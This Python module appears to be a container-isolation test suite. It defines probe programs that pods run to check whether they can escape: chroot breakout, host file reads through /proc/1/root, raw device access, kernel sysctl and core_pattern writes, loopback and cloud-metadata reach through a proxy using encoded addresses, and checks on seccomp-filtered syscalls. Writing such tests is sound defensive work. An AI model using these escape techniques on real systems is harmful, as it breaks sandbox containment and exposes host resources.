"""What pods try, as programs that print a line for each thing that they got hold of: a contained one prints nothing.

They run in a pod each, by `escapes.py`, as Python with the standard library. `FACTS` is a dictionary of what an
attacker might know of the machine: `marker` (a file in the state directory), `elsewhere` (the same file through another
mount; empty where making one takes root), `pid` (a process outside), `port` (where something listens on the machine's
loopback), `port6` (where something listens on all of the machine's IPv6 addresses; 0 where it has none), `link_local`
(those of them that are link-local), `abstract` (a socket's name).
"""

from __future__ import annotations

import dataclasses
from typing import Any


@dataclasses.dataclass(frozen=True)
class Attempt:
    """One program. `fields` are those of its ContainerSpec; `joins`: it is run by exec, too."""

    name: str
    program: str
    fields: dict[str, Any] = dataclasses.field(default_factory=dict)
    joins: bool = False


_LIBC = """
import ctypes, errno, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWCGROUP, NEWUSER, NEWPID, NEWNET = 0x20000, 0x2000000, 0x10000000, 0x20000000, 0x40000000
def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) for a in arguments))
    return 0 if result >= 0 else ctypes.get_errno()
def attempt(what, do, *arguments):
    try:
        found = do(*arguments)
    except OSError:
        return
    print(what, found if found is not None else "", flush=True)
def write(path):
    os.close(os.open(path, os.O_WRONLY))
def forked(work):
    pid = os.fork()
    if pid == 0:
        try:
            work()
        finally:
            sys.stdout.flush()
            os._exit(0)
    os.waitpid(pid, 0)
"""

_CGROUPS = """
def mount_all(user, cgroup):
    libc.unshare(user)
    libc.unshare(cgroup)
    libc.unshare(NEWNS)
    os.makedirs("/tmp/cg", exist_ok=True)
    for kind, data in (("cgroup2", None), ("cgroup", b"memory"), ("cgroup", b"pids"), ("cgroup", b"freezer")):
        if libc.mount(b"none", b"/tmp/cg", kind.encode(), 0, data) == 0:
            print("mounted", kind, data, flush=True)
for user in (0, NEWUSER):
    for cgroup in (0, NEWCGROUP):
        forked(lambda: mount_all(user, cgroup))
"""

_KEYS = """
number = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
if libc.syscall(number, 10, -3, b"user", b"trainshed-test", 0) > 0:
    print("found the key of the session that started the cluster")
"""

_FILES = """
def look(root):
    print("reads", root, open(root + FACTS["marker"]).read())
def nested():
    libc.unshare(NEWUSER | NEWNS)
    directory = os.path.dirname(FACTS["marker"])
    for _ in range(3):
        libc.umount2(directory.encode(), 2)
        libc.umount2(os.path.dirname(directory).encode(), 2)
    os.makedirs("/tmp/view", exist_ok=True)
    libc.mount(b"/", b"/tmp/view", None, 4096, None)
    for root in ("", "/tmp/view"):
        attempt("nested", look, root)
def out_of_a_root():
    os.makedirs("/tmp/jail", exist_ok=True)
    inside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(inside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    attempt("chroot", look, "")
for root in ("", "/proc/1/root", "/proc/self/root", "/.host", "/proc/1/cwd/.."):
    attempt("file", look, root)
if FACTS["elsewhere"]:
    attempt("another mount", lambda: open(FACTS["elsewhere"]).read())
forked(nested)
forked(out_of_a_root)
for path in ("/trainshed-was-here", "/usr/trainshed-was-here", "/etc/trainshed-was-here", "/tmp/trainshed-was-here"):
    try:
        open(path, "w").close()  # allowed, in the pod's own copy: the machine is looked at afterwards
    except OSError:
        pass
"""

_DEVICES = """
import stat
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop0"):
    attempt("opens", lambda: os.close(os.open(path, os.O_RDONLY)) or path)
for kind, major, minor in ((stat.S_IFCHR, 1, 1), (stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 11)):
    attempt("makes", lambda: os.mknod("/tmp/node", kind | 0o600, os.makedev(major, minor)) or (major, minor))
"""

_KERNEL_FILES = """
import time
end = time.monotonic() + 3
def writable(top):
    for directory, _, names in os.walk(top):
        for name in names:
            path = directory + "/" + name
            if time.monotonic() > end:
                return
            if not os.path.islink(path):
                attempt("may write", lambda: write(path) or path)
for top in ("/proc/sys/kernel", "/proc/sys/vm", "/proc/sys/fs", "/proc/sys/net", "/sys/fs/cgroup", "/sys/kernel"):
    writable(top)
for path in ("/proc/sysrq-trigger", "/proc/kcore", "/proc/1/oom_score_adj/x", "/sys/power/state"):
    attempt("may write", lambda: write(path) or path)
def lower():
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")
attempt("escapes the out-of-memory killer", lower)
def nested():
    libc.unshare(NEWUSER | NEWNS | NEWPID)
    def inside():
        os.makedirs("/tmp/proc", exist_ok=True)
        libc.mount(b"proc", b"/tmp/proc", b"proc", 0, None)
        libc.mount(None, b"/proc/sys", None, 32 | 4096, None)
        libc.umount2(b"/proc/sys", 2)
        for place in ("/tmp/proc", "/proc"):
            attempt("may write", lambda: write(place + "/sys/kernel/core_pattern") or place)
    forked(inside)
forked(nested)
"""

_PROCESSES = """
import signal
others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid())]
if others:
    print("sees processes", others)
attempt("signals a process outside", lambda: os.kill(FACTS["pid"], 0))
attempt("opens a process outside", lambda: os.pidfd_open(FACTS["pid"]))
extra = []
for name in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink("/proc/self/fd/" + name)
    except OSError:
        continue
    if int(name) > 2:
        extra.append((name, target))
if extra:
    print("inherited", extra)
"""

_SOCKETS = """
def abstract():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\\0" + FACTS["abstract"])
def tcp(address):
    with socket.create_connection((address, FACTS["port"]), timeout=2):
        return address
def through_proxy(address):
    with socket.create_connection(("10.88.0.1", 3128), timeout=2) as sock:
        sock.sendall(f"CONNECT {address}:{FACTS['port']} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
        answer = sock.recv(100)
        if b" 200" not in answer.split(b"\\r\\n")[0]:
            raise OSError(answer)
    return address
attempt("reaches an abstract socket outside", abstract)
for address in ("127.0.0.1", "10.88.0.1", "10.96.0.1", "localhost"):
    attempt("reaches the machine's loopback", tcp, address)
for address in ("127.0.0.1", "localhost", "0x7f.1", "2130706433", "[::ffff:127.0.0.1]", "0"):
    attempt("reaches the machine's loopback by the proxy", through_proxy, address)
import fcntl, struct
def link_down():
    with socket.socket() as sock:
        fcntl.ioctl(sock, 0x8914, struct.pack("16sh22x", b"eth0", 0))
attempt("takes its link down", link_down)
"""

_SOCKETS6 = """
def tcp(address):
    host, _, scope = address.partition("%")
    with socket.socket(socket.AF_INET6) as sock:
        sock.settimeout(2)
        sock.connect((host, FACTS["port6"], 0, int(scope or 0)))
    return address
def through_proxy(address):
    with socket.create_connection(("10.88.0.1", 3128), timeout=2) as sock:
        sock.sendall(f"CONNECT {address}:{FACTS['port6']} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
        answer = sock.recv(100)
        if b" 200" not in answer.split(b"\\r\\n")[0]:
            raise OSError(answer)
    return address
if FACTS["port6"]:
    scopes = [index for index, _ in socket.if_nameindex()]
    for address in ("::1", "::", "::ffff:127.0.0.1", "::ffff:10.88.0.1", *FACTS["link_local"]):
        for scope in scopes if address.startswith("fe80") else (0,):
            attempt("reaches the machine", tcp, f"{address}%{scope}")
    for address in ("::1", "::", "0:0:0:0:0:0:0:1", "0000::0001", "::ffff:7f00:1", "::127.0.0.1",
            "::ffff:169.254.169.254", "::1%lo", "::1%25lo", *FACTS["link_local"],
            *(f"{each}%eth0" for each in FACTS["link_local"])):
        attempt("reaches the machine by the proxy", through_proxy, f"[{address}]")
    for name in ("localhost", "localhost.", "ip6-localhost", "ip6-loopback", "LOCALHOST"):
        attempt("reaches the machine by the proxy", through_proxy, name)
"""

# Numbers on x86-64 and arm64; arguments are such that the kernel itself says something else than EPERM.
_FILTERED = """
column = {"x86_64": 0, "aarch64": 1}[os.uname().machine]
REFUSED = {"unshare": (272, 97), "setns": (308, 268), "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41),
    "keyctl": (250, 219), "add_key": (248, 217), "request_key": (249, 218), "bpf": (321, 280),
    "userfaultfd": (323, 282), "perf_event_open": (298, 241), "io_uring_setup": (425, 425), "fsopen": (430, 430),
    "open_by_handle_at": (304, 265),
    "move_mount": (429, 429), "open_tree": (428, 428), "init_module": (175, 105), "kexec_load": (246, 104),
    "swapon": (167, 224), "acct": (163, 89), "reboot": (169, 142), "settimeofday": (164, 170), "syslog": (103, 116)}
for name, numbers in REFUSED.items():
    if call(numbers[column], 0, 0, 0, 0, 0) != errno.EPERM:
        print("not refused:", name)
if call(435, 0, 0) != errno.ENOSYS or call(9999) != errno.ENOSYS:
    print("clone3 or an unknown call is there")
if call((56, 220)[column], NEWUSER | 17, 0, 0, 0, 0) != errno.EPERM:
    print("clone makes namespaces")
for family in (38, 40):
    try:
        socket.socket(family, socket.SOCK_STREAM)
    except OSError as error:
        if error.errno == errno.EPERM:
            continue
    print("socket family", family)
"""

_NEEDED = """
import concurrent.futures, mmap, signal, tempfile, threading
column = {"x86_64": 0, "aarch64": 1}[os.uname().machine]
def works(name, *arguments):
    number = arguments[0][column]
    if (found := call(number, *arguments[1:])) in (errno.EPERM, errno.ENOSYS):
        print("refused:", name, found)
def traced():
    works("ptrace", (101, 117), 0, 0, 0, 0)
forked(traced)
block = ctypes.create_string_buffer(8)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(block), 8)
works("process_vm_readv", (310, 270), os.getpid(), ctypes.addressof(vector), 1, ctypes.addressof(vector), 1, 0)
works("process_vm_writev", (311, 271), os.getpid(), ctypes.addressof(vector), 1, ctypes.addressof(vector), 1, 0)
works("memfd_create", (319, 279), ctypes.addressof(block), 0)
works("sched_setaffinity", (203, 122), 0, 8, ctypes.addressof(block))
works("membarrier", (324, 283), 0, 0, 0)
works("mlock", (149, 228), ctypes.addressof(block), 8)
works("madvise", (28, 233), 0, 0, 0)
works("personality", (135, 92), 0xffffffff)
works("rseq", (334, 293), 0, 0, 0, 0)
works("landlock_create_ruleset", (444, 444), 0, 0, 1)
with concurrent.futures.ThreadPoolExecutor(4) as pool:
    assert list(pool.map(abs, [-1, -2])) == [1, 2]
import multiprocessing, multiprocessing.shared_memory
with multiprocessing.get_context("fork").Pool(2) as pool:
    assert pool.map(abs, [-3]) == [3]
shared = multiprocessing.shared_memory.SharedMemory(create=True, size=100)
shared.close()
shared.unlink()
import subprocess
assert subprocess.run(["true"], close_fds=True, start_new_session=True).returncode == 0
with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()):
    pass
"""

_UNPRIVILEGED = {"uid": 1000, "gid": 1000}
_TRUSTED = {"unconfined": True}
_ALMIGHTY = {"unconfined": True, "privileged": True}

ATTEMPTS = (
    Attempt("cgroups of the machine", _CGROUPS),
    Attempt("cgroups of the machine, unconfined", _CGROUPS, _TRUSTED),
    Attempt("cgroups of the machine, privileged", _CGROUPS, _ALMIGHTY),
    Attempt("keys of the session", _KEYS),
    Attempt("keys of the session, unconfined", _KEYS, _TRUSTED),
    Attempt("keys of the session, privileged", _KEYS, _ALMIGHTY),
    Attempt("files of the machine", _FILES),
    Attempt("files of the machine, unconfined", _FILES, _TRUSTED),
    Attempt("devices", _DEVICES),
    Attempt("files of the kernel", _KERNEL_FILES),
    Attempt("files of the kernel, unconfined", _KERNEL_FILES, _TRUSTED),
    Attempt("processes", _PROCESSES),
    Attempt("processes, unconfined", _PROCESSES, _TRUSTED),
    Attempt("sockets", _SOCKETS),
    Attempt("sockets, IPv6", _SOCKETS6),
    Attempt("filtered calls", _FILTERED, joins=True),
    Attempt("filtered calls, another user", _FILTERED, _UNPRIVILEGED, joins=True),
    Attempt("calls that training needs", _NEEDED, joins=True),
    Attempt("calls that training needs, another user", _NEEDED, _UNPRIVILEGED),
)


def program(attempt: Attempt, facts: str) -> str:
    """Return the attempt as Python; `facts` is an expression for the dictionary."""
    return f"FACTS = {facts}\n{_LIBC}\n{attempt.program}"
